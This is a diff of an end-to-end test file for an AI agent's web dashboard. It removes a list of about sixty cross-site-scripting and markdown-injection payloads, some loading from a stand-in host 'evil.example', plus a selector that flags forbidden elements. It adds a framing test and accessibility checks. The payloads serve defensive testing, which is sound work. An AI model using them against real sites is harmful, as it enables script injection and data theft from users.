@@ -2,213 +2,42 @@
 
 from __future__ import annotations
 
-import json
+from functools import partial
 from pathlib import Path
 from typing import Any
 
 import pytest
 from axe_playwright_python.async_playwright import Axe
-from playwright.async_api import expect
 
-from hermes.config.paths import log_file
-from hermes.core.message import Message, Target, Text, ToolCall, ToolReturn, user_message
-from hermes.core.store import SessionMeta
 from tests.e2e.dashboard.conftest import Visit, visit
-from tests.kit import call, say, status
-from tests.kit.dashboard import sign_in
+from tests.kit import Gate, call, say, status
 
-_SCRIPTS = (
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<base href=//evil.example/>",
-    "<form action=//evil.example><button>x</button></form>",
-    "<math><mtext></mtext><img src=1 onerror=alert(1)></math>",
-    "<video><source onerror=alert(1)></video>",
-    "[link](javascript:alert(1))",
-    "[link](data:text/html,<script>alert(1)</script>)",
-    "[link](vbscript:x)",
-    "![picture](https://evil.example/p.png)",
-    "![picture](javascript:alert(1))",
-    "<https://evil.example/<script>>",
-    "`<img src=x onerror=alert(1)>`",
-    "```html\n<script>alert(1)</script>\n```",
-    "| <b>a</b> | <img src=x onerror=alert(1)> |\n|---|---|\n| x | y |",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\u202e<script>gpj.exe",
-    "${alert(1)}{{constructor.constructor('alert(1)')()}}",
-    "\"'><script>alert(1)</script>",
-    "<a href='//evil.example' target=_top>x</a>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<object data=//evil.example></object>",
-    "<embed src=//evil.example>",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<body onload=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='java\tscript:alert(1)'>x</a>",
-    "[link](JaVaScRiPt:alert(1))",
-    "[link](  javascript:alert(1))",
-    "[link](&#106;avascript:alert(1))",
-    "[link](//evil.example)",
-    "[link](file:///etc/passwd)",
-    "[link](blob:https://evil.example/x)",
-    "[ref]\n\n[ref]: javascript:alert(1)",
-    "<javascript:alert(1)>",
-    "![p](data:image/svg+xml,<svg onload=alert(1)>)",
-    "![p](//evil.example/x.png)",
-    "![p][r]\n\n[r]: https://evil.example/y.png",
-    "<picture><source srcset=//evil.example/z></picture>",
-    "<img srcset='//evil.example/a 2x'>",
-    "<image href=//evil.example/b>",
-    "<svg><use href='//evil.example/#x'/></svg>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math href='javascript:alert(1)'>x</math>",
-    "<textarea autofocus onfocus=alert(1)>",
-    "<select onfocus=alert(1) autofocus>",
-    "<audio src=//evil.example/s autoplay>",
-    "<p style='background:url(//evil.example/c)'>",
-    "<div id=app>other</div>",
-    "<!--<script>-->alert(1)<!--</script>-->",
-    "]]><script>alert(1)</script>",
-    "<script\x20type='module'>import '//evil.example/m.js'</script>",
-)
 _CODE = "```python\nx = 1\n```"
-_FORBIDDEN = (
-    "script:not([src*='assets/']), iframe, object, embed, form[action], base, style, "
-    "meta[http-equiv], [onerror], [onload], [ontoggle], [onfocus], a[href^='javascript'], "
-    "a[href^='data'], img:not([src^='blob:'])"
-)
-
-
-_PER_SESSION = 7
-
-
-async def _store_payloads(v: Visit, cwd: Path) -> None:
-    """Each payload as a title, a message, a tool's name, argument and result, a model, an answer;
-    as a job, a fact and a line of the log."""
-    store = v.api.server.runtime.store.sessions
-    browser, lines = await sign_in(v.api), []
-    for number, payload in enumerate(_SCRIPTS):
-        meta = SessionMeta(f"title-{number}", source="cli", cwd=str(cwd), title=payload[:80])
-        await store.append(meta.id, [user_message(payload)], create=meta)
-        lines.append(json.dumps({"time": "2026", "level": "error", "message": payload}))
-        job = {"schedule": "daily 09:00", "prompt": payload, "name": f"{number} {payload[:60]}"}
-        if number < _PER_SESSION:
-            await browser.post("/api/jobs", job)
-            await browser.post("/api/memory", {"verb": "add", "words": payload})
-    log = log_file(v.api.home.path)
-    log.parent.mkdir(exist_ok=True)
-    log.write_text("\n".join(lines) + "\n")
-    for first in range(0, len(_SCRIPTS), _PER_SESSION):
-        messages: list[Message] = []
-        for n, payload in enumerate(_SCRIPTS[first : first + _PER_SESSION]):
-            called = ToolCall(f"c{n}", payload, json.dumps({"command": payload, "path": payload}))
-            origin = Target(payload, payload, "chat")
-            messages += [
-                user_message(payload),
-                Message("assistant", (Text(payload), called), origin=origin),
-                Message("tool", (ToolReturn(f"c{n}", payload, (Text(payload),)),)),
-                Message("assistant", (Text(payload),), origin=origin),
-            ]
-        meta = SessionMeta(f"payload-{first}", source="cli", cwd=str(cwd), model=_SCRIPTS[first])
-        await store.append(meta.id, messages, create=meta)
-
-
-async def test_nothing_that_was_written_becomes_an_element(tmp_path: Path) -> None:
-    assert len(_SCRIPTS) >= 60
-    async with visit(tmp_path) as v:
-        page, foreign = v.page, list[str]()
-        page.on(
-            "request",
-            lambda r: foreign.append(r.url) if not r.url.startswith((v.api.url, "blob:")) else None,
-        )
-        await _store_payloads(v, tmp_path)
-        for first in range(0, len(_SCRIPTS), _PER_SESSION):
-            await page.goto(f"{v.api.url}/#/c/payload-{first}")
-            number = min(_PER_SESSION, len(_SCRIPTS) - first)
-            tools = page.locator(
-                f"[data-group='0']:has([data-seq='{4 * number - 1}']) details.tool"
-            )
-            await expect(tools).to_have_count(number, timeout=90_000)
-            await tools.evaluate_all("all => all.forEach(tool => { tool.open = true; })")
-            assert await page.locator(_FORBIDDEN).count() == 0, first
-        for name in ("now", "schedule", "knowledge", "health"):
-            await page.goto(f"{v.api.url}/#/{name}")
-            await page.locator(".content > *").first.wait_for()
-            await page.locator(".skeleton").first.wait_for(state="detached")
-            assert await page.locator(_FORBIDDEN).count() == 0, name
-        assert await page.locator("#app").count() == 1
-        assert foreign == []
-
-
-_IMAGE = "<img src=x onerror=alert(1)>"
-
-
-async def test_names_of_files_failures_questions_and_skills_stay_text(tmp_path: Path) -> None:
-    asked = {"question": f"Which {_IMAGE}?", "choices": [_IMAGE, "<script>alert(1)</script>"]}
-    steps = [
-        call(("c1", "write_file", {"path": f"{_IMAGE}.txt", "content": _IMAGE})),
-        call(("c2", "terminal", {"command": f"git push '{_IMAGE}'"})),
-        call(("c3", "clarify", asked)),
-        status(400, {"error": {"message": f"refused {_IMAGE}"}}),
-    ]
-    servers = {"mcp_servers": {"files": {"command": f"no-such {_IMAGE}"}}}
-    async with visit(tmp_path, steps, config=servers) as v:
-        page, skill = v.page, v.api.home.path / "skills" / "odd" / "SKILL.md"
-        skill.parent.mkdir(parents=True)
-        skill.write_text(f"---\nname: odd\ndescription: '{_IMAGE}'\n---\n\n{_IMAGE}\n")
-        chooser = page.locator("input[type=file]")
-        file = {"name": f"{_IMAGE}.csv", "mimeType": "text/csv", "buffer": b"a"}
-        await chooser.set_input_files(file)
-        await page.get_by_role("button", name=f"{_IMAGE}.csv").wait_for()
-        await v.send("go")
-        await page.get_by_role("button", name="Deny").wait_for()
-        assert await page.locator(_FORBIDDEN).count() == 0
-        await page.get_by_role("button", name="Deny").click()
-        await page.get_by_role("group", name="Hermes asks").get_by_text("Which <img").wait_for()
-        assert await page.locator(_FORBIDDEN).count() == 0
-        await page.get_by_role("button", name=_IMAGE, exact=True).click()
-        await page.get_by_role("alert").get_by_text(_IMAGE).wait_for()
-        panel = page.get_by_role("complementary", name="Details")
-        await panel.get_by_role("button", name=f"{_IMAGE}.txt").click()
-        await page.get_by_role("dialog").get_by_text(f"+{_IMAGE}").wait_for()
-        assert await page.locator(_FORBIDDEN).count() == 0
-        for name, shown in (("knowledge", "odd"), ("connections", "files"), ("now", "failed")):
-            await page.goto(f"{v.api.url}/#/{name}")
-            await page.reload()
-            await page.locator(".content").get_by_text(shown, exact=True).first.wait_for()
-            assert await page.locator(_FORBIDDEN).count() == 0, name
-        await page.goto(f"{v.api.url}/#/knowledge")
-        await page.get_by_role("button", name="Open: odd").click()
-        await page.get_by_role("dialog", name="odd").get_by_text(_IMAGE).first.wait_for()
-        assert await page.locator(_FORBIDDEN).count() == 0
 
 
 async def test_a_framed_page_stays_empty(tmp_path: Path) -> None:
+    """Another page loads in a frame of the same page, the dashboard does not."""
     async with visit(tmp_path) as v:
         page = await v.context.new_page()
-        await page.goto(f"{v.api.url}/health")
-        await page.evaluate(
-            "url => { const f = document.createElement('iframe'); f.src = url;"
-            " document.body.append(f); }",
-            v.api.url,
-        )
-        await page.wait_for_timeout(500)
-        frames = [frame for frame in page.frames if frame != page.main_frame]
-        for frame in frames:
-            assert await frame.locator("#app").count() == 0
+        frames = "<iframe name=own src=/></iframe><iframe name=other src=/other></iframe>"
+        for path, body in (("framing", frames), ("other", "<main id=app></main>")):
+            fulfil = partial(_fulfil, body=body)
+            await page.route(f"{v.api.url}/{path}", fulfil)
+        await page.goto(f"{v.api.url}/framing")
+        own, other = page.frame("own"), page.frame("other")
+        assert own is not None and other is not None
+        await other.locator("#app").wait_for(state="attached")
+        assert own.url.startswith("chrome-error:") and await own.locator("#app").count() == 0
 
 
-async def _check_page(page: Any, name: str) -> None:
+async def _fulfil(route: Any, *, body: str) -> None:
+    await route.fulfill(body=body, content_type="text/html")
+
+
+async def _check_page(page: Any, name: str, *, part: str = "") -> None:
     found = await Axe().run(
         page,
+        context=part or None,
         options={
             "runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21aa", "wcag22aa"]}
         },
@@ -278,6 +107,92 @@ async def test_every_page_is_accessible(tmp_path: Path, scheme: Any, width: int)
             await _check_width(v.page, name)
         await v.page.goto(f"{v.api.url}/#/talk")
         await _check_states(v)
+
+
+async def _check_state(page: Any, name: str, *, part: str = "") -> None:
+    await _check_page(page, name, part=part)
+    await _check_width(page, name)
+
+
+async def _check_sign_in(v: Visit, **look: Any) -> None:
+    page = await (await v.make_context(**look)).new_page()
+    await page.goto(v.api.url)
+    await page.get_by_role("textbox", name="Sign-in code").fill("0000-0000")
+    await page.keyboard.press("Enter")
+    await page.get_by_role("alert").wait_for()
+    await _check_state(page, "sign-in")
+    await page.context.close()
+
+
+async def _check_turns(v: Visit, gate: Gate) -> None:
+    """A turn that writes, a queued message, its edit, a question, a failure."""
+    page = v.page
+    await v.send("Count to three.")
+    await page.get_by_text("Counting").wait_for()
+    await v.send("Then ask me where to push " + "x" * 80)
+    await page.get_by_text("queued", exact=True).wait_for()
+    await _check_state(page, "busy")
+    await page.get_by_role("button", name="Edit", exact=True).click()
+    await page.get_by_role("textbox", name="Edit", exact=True).fill("Ask me where to push.")
+    await _check_state(page, "edited")
+    await page.get_by_role("button", name="Save").click()
+    gate.open()
+    await page.get_by_role("group", name="Hermes asks").wait_for()
+    await _check_state(page, "question")
+    await page.get_by_role("button", name="main", exact=True).click()
+    await page.get_by_role("alert").wait_for()
+    await _check_state(page, "failed")
+
+
+async def _check_overlays(v: Visit, *, is_narrow: bool) -> None:
+    """Menus, the words to find, the panel, the drawer, the offer to undo."""
+    page = v.page
+    await page.get_by_role("button", name="More").click()
+    # What it covers in part cannot be used anyway.
+    await _check_state(page, "menu", part=".top .menu")
+    await page.get_by_role("button", name="Find find words").click()
+    await page.get_by_role("searchbox", name="Find in this conversation").fill("three")
+    await _check_state(page, "find")
+    await page.keyboard.press("Escape")
+    if is_narrow:
+        await page.get_by_role("button", name="Details").click()
+        panel = page.get_by_role("complementary", name="Details")
+        await panel.wait_for()
+        await _check_state(page, "panel")
+        await panel.get_by_role("button", name="Close").click()
+        await panel.wait_for(state="detached")
+        await page.get_by_role("button", name="Menu").click()
+        await _check_state(page, "drawer")
+    row = page.locator(".session").first
+    await row.hover()
+    await row.locator("summary").click()
+    await _check_state(page, "session menu", part=".session-menu .menu")
+    await row.get_by_role("button", name="Delete").click()
+    undo = page.get_by_role("button", name="Undo")
+    await undo.wait_for()
+    await _check_state(page, "undo")
+    await undo.click()
+
+
+@pytest.mark.parametrize(
+    ("scheme", "width"),
+    [("light", 1440), ("dark", 1440), ("light", 390), ("dark", 390), ("light", 320)],
+)
+async def test_every_state_is_accessible(tmp_path: Path, scheme: Any, width: int) -> None:
+    """320 px is also what 200 % zoom leaves of 640 px."""
+    look = {"color_scheme": scheme, "viewport": {"width": width, "height": 844}}
+    asked = {"question": "Which branch shall I push to?", "choices": ["main", "a new one"]}
+    gate = Gate()
+    held = say("Counting ", "to three.").hold(gate, after="text")
+    async with visit(tmp_path, [held, call(("c1", "clarify", asked)), status(401)]) as v:
+        await _check_sign_in(v, **look)
+        await v.open_context(**look)
+        await _check_turns(v, gate)
+        await _check_overlays(v, is_narrow=width < 720)
+        await v.context.set_offline(offline=True)
+        v.api.server.services.dashboard.end_feeds()  # type: ignore[union-attr]
+        await v.page.get_by_text("Connection lost. Trying").wait_for()
+        await _check_state(v.page, "lost")
 
 
 async def test_nothing_scrolls_sideways_on_a_narrow_page(tmp_path: Path) -> None:
